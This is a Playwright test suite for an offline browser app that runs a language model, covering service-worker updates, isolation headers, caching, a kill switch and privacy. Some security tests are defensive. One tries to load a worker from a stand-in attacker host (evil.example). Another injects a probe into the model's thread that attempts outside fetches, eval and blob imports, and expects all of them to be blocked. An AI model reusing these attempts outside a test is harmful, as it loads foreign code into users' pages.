import { readdirSync, readFileSync } from "node:fs";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, type Page, test } from "@playwright/test";
import { buildKillSwitch } from "../../scripts/build-kill-switch.ts";
import { HUB_URL } from "../../src/contract/security-headers.ts";
import { startFakeHub } from "../server/fake-hub.ts";
import { type BuiltSite, deploy, startBuiltSite, untilControlled, untilReady, write } from "./built-site.ts";
import { launchOwn, WORKER } from "./fault-site.ts";

let site: BuiltSite;

test.describe("a host without headers", () => {
  test.beforeEach(async () => {
    site = await startBuiltSite();
  });
  test.afterEach(() => site.close());

  test("F32: the site's own model answers without any reload", async ({ page }) => {
    const loads = countLoads(page);
    await page.goto(site.url);
    await untilReady(page);
    await untilControlled(page);
    expect(await write(page, "Life is")).toContain("Life is");
    expect(loads()).toBe(1);
  });

  test("F32: a reload brings isolation, and a service worker that loses the headers brings no loop", {
    tag: "@slow",
  }, async ({ page }) => {
    await page.goto(site.url);
    await untilControlled(page);
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
    await page.reload();
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  });

  test("F32, T15: a link to a foreign model costs one reload for threads, and no weights before the click", {
    tag: "@slow",
  }, async ({ page }) => {
    const hub = await startFakeHub({
      "owner/name": {
        files: { "config.json": "{}", "tokenizer.json": "{}", "onnx/model_quantized.onnx": bytes(5000) },
      },
    });
    try {
      site.server.rewritten.push([HUB_URL, hub.url]);
      const loads = countLoads(page);
      await page.goto(`${site.url}#model=owner/name`);
      await expect
        .poll(() => page.evaluate(() => crossOriginIsolated).catch(() => false), { timeout: 30_000 })
        .toBe(true);
      await expect(page.getByRole("button", { name: "Load model" })).toBeVisible();
      await expect(page.getByText(hub.commitOf("owner/name").slice(0, 7))).toBeVisible();
      expect(loads()).toBe(2);
      expect(hub.log.filter(({ url }) => /resolve|cdn/.test(url))).toEqual([]);
    } finally {
      await hub.close();
    }
  });

  test("F32: where the headers get lost on the way it reloads once and stays", { tag: "@slow" }, async ({ page }) => {
    const hub = await startFakeHub({
      "owner/name": {
        files: { "config.json": "{}", "tokenizer.json": "{}", "onnx/model_quantized.onnx": bytes(5000) },
      },
    });
    try {
      site.server.rewritten.push(
        [HUB_URL, hub.url],
        ["Cross-Origin-Embedder-Policy", "X-Lost-One"],
        ["Document-Isolation-Policy", "X-Lost-Two"],
      );
      const loads = countLoads(page);
      await page.goto(`${site.url}#model=owner/name`);
      await expect.poll(loads, { timeout: 30_000 }).toBe(2);
      await expect(page.getByRole("button", { name: "Load model" })).toBeVisible();
      await untilControlled(page);
      expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
      expect(loads()).toBe(2);
    } finally {
      await hub.close();
    }
  });

  test("F34: the whole way runs under the policy without a violation", { tag: "@slow" }, async ({ page }) => {
    const violations = await watchViolations(page);
    await page.goto(site.url);
    await untilReady(page);
    await write(page, "Life is");
    await untilControlled(page);
    await page.reload();
    await untilReady(page);
    await write(page, "Life is");
    expect(await violations()).toEqual([]);
  });

  test("F35: under a folder, nothing comes from elsewhere and nothing is missing", { tag: "@slow" }, async ({
    page,
  }) => {
    const missing: string[] = [];
    const foreign: string[] = [];
    page.on("response", (response) => void (response.status() === 404 && missing.push(response.url())));
    page.context().on("request", (request) => {
      const url = request.url();
      if (/^https?:/.test(url) && !url.startsWith(site.url)) foreign.push(url);
    });
    await page.goto(site.url);
    await untilReady(page);
    await write(page, "Life is");
    expect(missing).toEqual([]);
    expect(foreign).toEqual([]);
  });

  test("F10: storage cleared between visits is said, and the model is fetched again", { tag: "@slow" }, async ({
    page,
  }) => {
    await page.goto(site.url);
    await untilReady(page);
    const removed = page.getByText("The browser removed the model");
    await expect(removed).toHaveCount(0);
    const session = await page.context().newCDPSession(page);
    const storageTypes = "cache_storage,file_systems,indexeddb";
    await session.send("Storage.clearDataForOrigin", { origin: new URL(site.url).origin, storageTypes });
    expect(await write(page, "Life is")).toContain("Life is");
    await page.reload();
    await expect(removed).toBeVisible();
    await untilReady(page);
    await page.reload();
    await untilReady(page);
    await expect(removed).toHaveCount(0);
  });

  test("F36: each of 20 deploys asks, waits for the click, and fetches no model again", { tag: "@slow" }, async ({
    page,
  }) => {
    // Twenty reloads, each of which starts the model.
    test.setTimeout(300_000);
    await page.goto(site.url);
    await untilReady(page);
    await untilControlled(page);
    const loads = countLoads(page);
    const models = site.server.to(/onnx_data/).length;
    const offer = page.getByText("A new version of this page is ready.");
    for (let deploys = 1; deploys <= 20; deploys++) {
      const version = `v${deploys} of 20`;
      deploy(site, version);
      // A tab that stays open looks for a new version by itself, now and then; here it is told to.
      await page.evaluate(async () => void (await (await navigator.serviceWorker.getRegistration())?.update()));
      await expect(offer).toBeVisible({ timeout: 30_000 });
      expect(await page.title()).not.toContain(version);
      await page.getByRole("textbox", { name: "Prompt" }).fill(`typed before ${version}`);
      await page.getByRole("button", { name: "Update" }).click();
      await expect.poll(() => page.title(), { timeout: 30_000 }).toContain(version);
      await expect(page.getByRole("textbox", { name: "Prompt" })).toHaveValue(`typed before ${version}`);
    }
    expect(loads()).toBe(20);
    expect(site.server.to(/onnx_data/)).toHaveLength(models);
  });

  test("F37: a page of the old version finds its files after the host has dropped them", { tag: "@slow" }, async ({
    page,
    context,
  }) => {
    await page.goto(site.url);
    await untilReady(page);
    await untilControlled(page);
    const old = await page.evaluate(async () => {
      const [name = ""] = (await caches.keys()).filter((each) => each.startsWith("workbox-precache"));
      return (await (await caches.open(name)).keys()).map(({ url }) => url).filter((url) => url.endsWith(".js"));
    });
    deploy(site, "v2");
    const worker = site.server.deployed.get("/sw.js") ?? "";
    // The next version has other files: none of the old names is on the host or in its precache.
    site.server.deployed.set("/sw.js", worker.replace(/\{[^{}]*assets\/docs-[^{}]*\.js[^{}]*\},?/, ""));
    const gone = old.find((url) => /assets\/docs-/.test(url)) ?? "";
    expect(gone).not.toBe("");
    site.server.deployed.set(`/${new URL(gone).pathname.split("/").slice(3).join("/")}`, undefined);
    const other = await context.newPage();
    await other.goto(site.url);
    await other.getByRole("button", { name: "Update" }).click();
    await expect.poll(() => other.title(), { timeout: 30_000 }).toContain("v2");
    expect(await page.evaluate(async (url) => (await fetch(url)).status, gone)).toBe(200);
  });

  test("F39: after one visit it starts cold without a network and generates", async () => {
    const profile = await mkdtemp(join(tmpdir(), "hostless-profile-"));
    try {
      const first = await launchOwn(profile);
      const page = await first.newPage();
      await page.goto(site.url);
      await untilReady(page);
      await untilControlled(page);
      await first.close();
      site.close();
      const second = await launchOwn(profile);
      await second.setOffline(true);
      const again = await second.newPage();
      await again.goto(site.url);
      await untilReady(again);
      expect(await write(again, "Life is")).toContain("Life is");
      await second.close();
    } finally {
      await rm(profile, { recursive: true, force: true, maxRetries: 20, retryDelay: 100 });
    }
  });

  test("F40: the kill switch leaves no service worker and no old file, and the model stays", { tag: "@slow" }, async ({
    page,
  }) => {
    await page.goto(site.url);
    await untilReady(page);
    await untilControlled(page);
    const folder = await mkdtemp(join(tmpdir(), "hostless-kill-"));
    await buildKillSwitch(folder);
    site.server.deployed.set("/sw.js", await readFile(join(folder, "sw.js"), "utf8"));
    await rm(folder, { recursive: true });
    const models = site.server.to(/onnx_data/).length;
    await page.reload();
    await expect
      .poll(() => page.evaluate(async () => (await caches.keys()).filter((name) => name.startsWith("workbox-")).length))
      .toBe(0);
    await page.reload();
    await untilReady(page);
    await write(page, "Life is");
    expect(site.server.to(/onnx_data/)).toHaveLength(models);
  });

  test("T23: the service worker is asked for anew each time", { tag: "@slow" }, async ({ page }) => {
    await page.goto(site.url);
    await untilControlled(page);
    const mode = await page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.updateViaCache);
    expect(mode).toBe("none");
  });

  test("can be installed", async ({ page }) => {
    await page.goto(site.url);
    await untilControlled(page);
    const session = await page.context().newCDPSession(page);
    const { installabilityErrors } = await session.send("Page.getInstallabilityErrors");
    // Playwright's contexts are incognito ones, where nothing can be installed.
    expect(installabilityErrors.filter(({ errorId }) => errorId !== "in-incognito")).toEqual([]);
    const { errors } = await session.send("Page.getAppManifest");
    expect(errors).toEqual([]);
  });

  test("T16, T28: what is typed is in no request", { tag: "@slow" }, async ({ page }) => {
    const canary = "canarywordnobodywrites";
    const requests: string[] = [];
    page.context().on("request", (request) => {
      requests.push(`${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ""}`);
    });
    await page.goto(site.url);
    await untilReady(page);
    await write(page, canary);
    await untilControlled(page);
    await page.reload();
    await untilReady(page);
    expect(requests.length).toBeGreaterThan(5);
    expect(requests.filter((request) => request.includes(canary))).toEqual([]);
    expect(site.server.seen.filter(({ url, referer }) => `${url} ${referer}`.includes(canary))).toEqual([]);
  });
});

for (const host of ["with headers", "without headers", "without headers, after the service worker took over"]) {
  test(`T21: the model's thread cannot get out, on a host ${host}`, async ({ page, context }) => {
    site = await startBuiltSite({ headers: host === "with headers" });
    const outside = await startBuiltSite({ base: "/" });
    try {
      site.server.set({ path: WORKER, prepend: probe(`${outside.url}index.html`) });
      await page.goto(site.url);
      if (host.endsWith("took over")) {
        await untilControlled(page);
        await page.close();
        page = await context.newPage();
        await page.goto(site.url);
        expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
      }
      const answer = await page.evaluate(
        () =>
          new Promise((resolve) => {
            const channel = new BroadcastChannel("probe");
            channel.onmessage = ({ data }) => resolve(data);
            channel.postMessage("tell");
          }),
      );
      expect(answer).toEqual({ fetch: "blocked", eval: "blocked", import: "blocked", worker: "blocked", own: "open" });
      expect(outside.server.seen).toEqual([]);
    } finally {
      outside.close();
      site.close();
    }
  });
}

test("T24: the page starts no script that is not the site's own", async ({ page }) => {
  site = await startBuiltSite({ headers: true });
  try {
    await page.goto(site.url);
    const outcome = await page.evaluate(() => {
      const attempt = (work: () => unknown) => {
        try {
          work();
          return "open";
        } catch {
          return "blocked";
        }
      };
      return {
        worker: attempt(() => new Worker("https://evil.example/worker.js")),
        markup: attempt(() => {
          document.body.innerHTML = "<b>x</b>";
        }),
        policy: attempt(() => Reflect.get(window, "trustedTypes").createPolicy("app-urls", {})),
      };
    });
    expect(outcome).toEqual({ worker: "blocked", markup: "blocked", policy: "blocked" });
  } finally {
    site.close();
  }
});

test("T26: the built site names no CDN", () => {
  const files = readdirSync("dist", { recursive: true, encoding: "utf8" }).filter((name) =>
    /\.(js|html|css)$/.test(name),
  );
  const naming = files.filter((name) =>
    /cdn\.jsdelivr|unpkg\.com|cdnjs|esm\.sh/.test(readFileSync(join("dist", name), "utf8")),
  );
  expect(naming).toEqual([]);
});

test("F34: where the host forbids WebAssembly the page says so", { tag: "@slow" }, async ({ page }) => {
  site = await startBuiltSite();
  try {
    site.server.rewritten.push([" 'wasm-unsafe-eval'", ""], [" &#39;wasm-unsafe-eval&#39;", ""]);
    await page.goto(site.url);
    await expect(page.getByRole("alert")).toContainText(/WebAssembly|CompileError|backend|run/i, { timeout: 60_000 });
  } finally {
    site.close();
  }
});

function bytes(count: number): Uint8Array {
  return new Uint8Array(count).fill(7);
}

function countLoads(page: Page): () => number {
  let loads = 0;
  page.on("load", () => loads++);
  return () => loads;
}

/** Policy violations of the page and of its thread, over reloads. */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  const seen: string[] = [];
  await page.exposeFunction("violated", (what: string) => seen.push(what));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sample }) => {
      Reflect.get(window, "violated")(`${violatedDirective} ${blockedURI} ${sample}`);
    });
  });
  page.on("console", (message) => {
    if (/Content Security Policy|Trusted/i.test(message.text())) seen.push(message.text());
  });
  return async () => seen;
}

/** Runs inside the model's thread, and tells what of it was blocked to whoever asks. */
function probe(outside: string): string {
  return `
const attempts = {
  fetch: () => fetch(${JSON.stringify(outside)}, { mode: "no-cors" }),
  eval: async () => eval("1"),
  import: () => import(URL.createObjectURL(new Blob(["export default 1"], { type: "text/javascript" }))),
  worker: async () => new Worker(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" }))),
  own: () => fetch(new URL("../manifest.webmanifest", import.meta.url)),
};
const probing = new Promise((resolve) => setTimeout(resolve, 1000)).then(async () => {
  const told = {};
  for (const [name, attempt] of Object.entries(attempts)) told[name] = await attempt().then(() => "open", () => "blocked");
  return told;
});
const probeChannel = new BroadcastChannel("probe");
const tell = () => probing.then((told) => probeChannel.postMessage(told));
probeChannel.onmessage = tell;
tell();
`;
}
